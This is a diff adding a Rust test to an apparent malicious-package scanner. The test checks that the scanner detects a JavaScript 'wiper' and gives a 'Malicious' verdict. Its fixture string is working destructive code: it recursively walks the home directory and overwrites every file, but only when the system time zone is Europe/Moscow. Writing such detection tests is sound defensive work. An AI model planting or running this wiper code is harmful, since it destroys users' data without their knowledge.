@@ -325,4 +325,18 @@ mod tests {
         let f = s.findings.iter().find(|f| f.rule == "code/wiper").unwrap();
         assert!(f.message.contains("locale"), "{}", f.message);
     }
+
+    /// An asynchronous walk: the overwrite sits in callbacks nested under `fs.readdir`.
+    #[test]
+    fn positive_async_walk_overwrites_from_callbacks() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "index.js",
+                "const fs = require('fs');\nconst path = require('path');\nconst os = require('os');\nfunction wipe(dir) {\n  fs.readdir(dir, (e, names) => {\n    (names || []).forEach((n) => {\n      const p = path.join(dir, n);\n      fs.stat(p, (err, st) => { if (st && st.isDirectory()) wipe(p); else fs.writeFile(p, 'x', () => {}); });\n    });\n  });\n}\nif (Intl.DateTimeFormat().resolvedOptions().timeZone === 'Europe/Moscow') wipe(os.homedir());\n",
+            ),
+        ]);
+        assert_eq!(hits(&s, "code/wiper"), vec![("index.js".to_string(), 8)]);
+        assert_eq!(s.verdict, Verdict::Malicious);
+    }
 }
